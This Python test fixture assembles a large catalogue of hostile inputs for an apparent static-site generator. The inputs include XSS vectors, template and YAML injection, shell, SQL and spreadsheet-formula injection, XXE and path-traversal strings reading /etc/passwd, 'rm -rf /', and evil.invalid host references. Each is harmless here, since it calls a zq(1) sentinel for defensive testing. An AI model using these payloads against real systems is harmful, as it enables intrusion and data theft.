# ruff: noqa: E501 - a line of payloads may be as long as it is
"""Hostile texts of our own composition: each would do harm somewhere if it were taken for more than text.

Every payload that can run anything calls `zq(1)`, which the browser test defines and watches.
"""

from itertools import product

RUN = "zq(1)"

HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
    "onpageshow", "onbeforetoggle",
)  # fmt: skip
ELEMENTS = (
    "<img src=x {0}={1}>", "<svg {0}={1}>", "<body {0}={1}>", "<details open {0}={1}>", "<input autofocus {0}={1}>",
    "<video {0}={1}><source src=x>", "<IMG/SRC=x/{0}={1}>", "<x {0}={1} tabindex=1 id=x>",
)  # fmt: skip
QUOTES = ('"', "'", '">', "'>", '"/>', "`>", "</title>", "</textarea>", "-->", "</style>", "</pre>", "]]>")

SCRIPTS = (
    f"<script>{RUN}</script>", "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script\x0b>", f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"</script><script>{RUN}</script>", f"<!--<script>{RUN}</script>", f"<script type=module>{RUN}</script>",
    "<iframe src=javascript:zq(1)>", "<iframe srcdoc='&lt;script>parent.zq(1)&lt;/script>'>",
    "<object data=javascript:zq(1)>", "<embed src=javascript:zq(1)>", "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:zq(1)'>", "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>*{background:url(javascript:zq(1))}</style>", "<form action=javascript:zq(1)><button>按</button></form>",
    "<template><script>zq(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=zq(1)>'>",
    "<xmp><img src=x onerror=zq(1)></xmp>", "<plaintext>", "<isindex action=javascript:zq(1) type=image>",
    "<marquee onstart=zq(1)>", "<keygen autofocus onfocus=zq(1)>", "<portal src=javascript:zq(1)>",
    "&lt;script&gt;zq(1)&lt;/script&gt;", "&#60;script&#62;zq(1)&#60;/script&#62;", "&amp;lt;img src=x onerror=zq(1)&amp;gt;",
    "%3Cscript%3Ezq(1)%3C/script%3E", "\\u003cscript\\u003ezq(1)\\u003c/script\\u003e", "\\x3cscript>zq(1)\\x3c/script>",
    "＜script＞zq(1)＜/script＞", "‹script›zq(1)‹/script›", "<ſcript>zq(1)</ſcript>", "+ADw-script+AD4-zq(1)+ADw-/script+AD4-",
    "<?xml-stylesheet href='javascript:zq(1)'?>", "<?php zq(1) ?>", "<% zq(1) %>", "<![CDATA[<script>zq(1)</script>]]>",
    "<img src=`x`onerror=zq(1)>", "<a href='jav&#x09;ascript:zq(1)'>x</a>", "<a href=&#106;avascript:zq(1)>x</a>",
)  # fmt: skip

VECTORS = (
    "<svg><script>zq(1)</script></svg>", "<svg><animate onbegin=zq(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:zq(1)><text y=9>x</text></a></svg>", "<svg><set attributeName=onload to=zq(1)>",
    "<svg><foreignObject><iframe src=javascript:zq(1)></foreignObject></svg>", "<svg><use href='data:image/svg+xml,x#x'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=zq(1)>",
    "<math href=javascript:zq(1)>CLICK</math>", "<svg><style><img src=x onerror=zq(1)></style></svg>",
    "<math><annotation-xml encoding=text/html><script>zq(1)</script></annotation-xml></math>",
    "<!DOCTYPE svg [<!ENTITY x 'zq(1)'>]><svg onload=&x;>", "<svg/onload=zq(1)//",
)  # fmt: skip

ADDRESSES = (
    "javascript:zq(1)", "JaVaScRiPt:zq(1)", "java\tscript:zq(1)", " javascript:zq(1)", "javascript&colon;zq(1)",
    "javascript://%0azq(1)", "data:text/html,<script>zq(1)</script>", "data:text/html;base64,PHNjcmlwdD56cSgxKTwvc2NyaXB0Pg==",
    "vbscript:zq(1)", "file:///etc/passwd", "//evil.invalid/x", "\\\\evil.invalid\\x", "http:javascript:zq(1)",
    "https://a.invalid/\"onmouseover=zq(1) x=\"", "https://a.invalid/'><script>zq(1)</script>", "http://a.invalid/<b>",
    "https://user:pass@evil.invalid/", "http://[::1", "https://a.invalid/?q={{7*7}}", "blob:https://a.invalid/x",
    "view-source:javascript:zq(1)", "https://a.invalid/]]></loc>", "mailto:a@b.invalid?subject=\"><script>zq(1)</script>",
    "feed:javascript:zq(1)", "jar:javascript:zq(1)!/", "ｊａｖａｓｃｒｉｐｔ:zq(1)", "https://a.invalid/)[x](javascript:zq(1)",
)  # fmt: skip

MARKDOWN = (
    "[按](javascript:zq(1))", "![x](x\"onerror=\"zq(1))", "[a]: javascript:zq(1) 'x'", "<javascript:zq(1)>", "[x]( javascript:zq(1))",
    "# 標題一", "## 標題二 ##", "=====", "-----", "***", "* 項", "- 項", "+ 項", "1. 項", "1) 項", "> 引", "    代碼",
    "`代碼`", "``` html", "~~~", "**粗**", "__粗__", "_斜_", "~~刪~~", "| a | b |", "|---|---|", "[^1]", "[^1]: 注",
    "*[HTML]: 縮寫", ": 定義", "{: onclick=zq(1) }", "{#id .class onclick=zq(1)}", "\\<script>zq(1)\\</script>", "&copy; &#x3c;b&#x3e;",
    "![](//evil.invalid/x.png)", "[toc]", "[TOC]", "<div markdown=1>**x**</div>", "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03",
    "[[連結]]", "a\\", "\\*", "http://a.invalid/_x_", "<a@b.invalid>", "!!! note", "[x][y]", "{::comment}x{:/comment}", "x^2^ y~2~ ==亮==",
)  # fmt: skip

HEAD_LINES = (
    "Slug: ../../evil", "Title: 假題", "Status: draft", "Template: /etc/passwd", "Save_as: ../../evil.html", "Url: javascript:zq(1)",
    "Date: 1970-01-01", "---", "...", "+++", "Generated: 0123456789abcdef", "SHA256: 0000", "Tags-Not: 全部", "Convert: off",
    "    Slug: evil", "Lang: zh-Hant\" onclick=zq(1)", "Markup: <script>zq(1)</script>", "Original-File: /etc/passwd:1",
    "\ufeffTitle: x", "Translation: true", "Category:: x", "Fields: a: b",
)  # fmt: skip

CODES = (
    "!!python/object/apply:os.system ['zq']", "&a [*a,*a,*a]", "%YAML 1.2", "? x : y", "key: |\n", "[[table]]", "[a.b]\nx = 1", 'x = """',
    "'''", "{% raw %}{{7*7}}{% endraw %}", "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}",
    "{% for x in range(99) %}A{% endfor %}", "{# 注 #}", "{%- set SITENAME='evil' -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@{7*7}", "{7*7}",
    "{0}", "{n}", "{names}", "{url}", "{id}{title}", "%s%n%(x)s", "$(id)", "`id`", "; rm -rf /", "| id", "{filename}/x.md", "{attach}../../etc/passwd",
    "|filename|x.md", "{static}x", "{tag}x", "{author}x", "{category}x", "{index}", "__import__('os')", "{{ self._TemplateReference__context }}",
    "{{ request|attr('application') }}", "{{constructor.constructor('zq(1)')()}}", "<!--#exec cmd=\"id\" -->", "@root@", "ROOT", "\\g<0>\\1",
)  # fmt: skip

DATA = (
    '"}]}</script><script>zq(1)</script>', '","@type":"Evil","x":"', "</SCRIPT ><img src=x onerror=zq(1)>", "<!--</script>", "\\", '\\"', "\u2028zq(1)\u2029",
    "=cmd|'/C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.invalid\")", "\t=1+1", "\r=1+1",
    "＝1+1", "＋1", "＠SUM(1)", '"=1+1"', "'=1+1", "a,b\n=1+1", '";=1+1', "]]></title><evil/>", "]]]]><![CDATA[>", "&xxe;", "<!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
    "<entry><id>evil</id></entry>", "</loc></url><url><loc>https://evil.invalid", "<?xml version='1.0'?>", "<xi:include href='/etc/passwd'/>",
    "}}, evil = {{x", "title = {x},\n}\n@online{evil,", "\\input{/etc/passwd}", "\\write18{id}", "ER  - \r\nTY  - EVIL", "{\"literal\":\"x\"}", "null", "NaN", "undefined",
    "__proto__", "constructor", "toString", "hasOwnProperty", "' OR '1'='1", "'; DROP TABLE article;--", "\" UNION SELECT 1", "%' LIKE '%",
)  # fmt: skip

TRICKS = (
    "\u202egnp.exe\u202c", "\u2066\u2067x\u2069", "甲\u200b乙\u200c丙\u200d丁\ufeff", "\u00ad軟\u00ad連", "a\u0300" * 60, "\u0000零\u0000", "\x1b[31m紅\x1b[0m",
    "\x08\x08\x7f退", "\ufffe\uffff非字", "\U000e0041\U000e0042標", "\U0001f468\u200d\U0001f469\u200d\U0001f467家", "\u3164\u115f空", "ﬁ ﬂ ㍿ ㎢", "İıſK", "ΑΒΓ аbс",
    "\u0085\u2028\u2029行", "\ud83d" .encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "𠀀𪛖𰀀", "〾⿰木木", "\ue000\uf8ff", "邊\U000e0100邊\ufe00", "①⑴⒈㊀", "ㄅㄆㄇㄈ", "\u05d0\u05d1 עברית العربية",
    "-{zh-hans:<script>zq(1)</script>;zh-hant:x}-", "-{T|evil}-", "-{H|zh-cn:計算機;zh-tw:電腦;}-", "-{R|x}-", "-{", "}-", "-{-{x}-}-", "[[Category:x]]", "{{模板|x}}", "<nowiki>", "~~~~", "__NOTOC__", "#REDIRECT [[x]]",
    "CON", "con.txt", "NUL", "COM1.html", "aux", "../../../etc/passwd", "..\\..\\evil", "/etc/passwd", "C:\\evil", "a/../../b", "%2e%2e%2f", "....//", ".htaccess", "index.html", "index", "page/2",
    "feed.atom", "x" * 300, "長" * 300, "?q=x", "#x", "a b", "%", "%00", "%zz", "~", "?", "*", ":", "|", "<", ">", '"', "&", "'", ".", "..", "　", "-", "--", "'' ``",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, in an order that never changes."""
    handlers = [element.format(handler, RUN) for element, handler in product(ELEMENTS, HANDLERS)]
    broken_out = [f"{quote}<img src=x onerror={RUN}>" for quote in QUOTES]
    broken_out += [
        f"x{quote} onmouseover={RUN} autofocus onfocus={RUN} x={quote}" for quote in ('"', "'", "", "&quot;", "&#34;")
    ]
    families = (SCRIPTS, handlers, VECTORS, ADDRESSES, broken_out, MARKDOWN, HEAD_LINES, CODES, DATA, TRICKS)
    return list(dict.fromkeys(text for family in families for text in family))
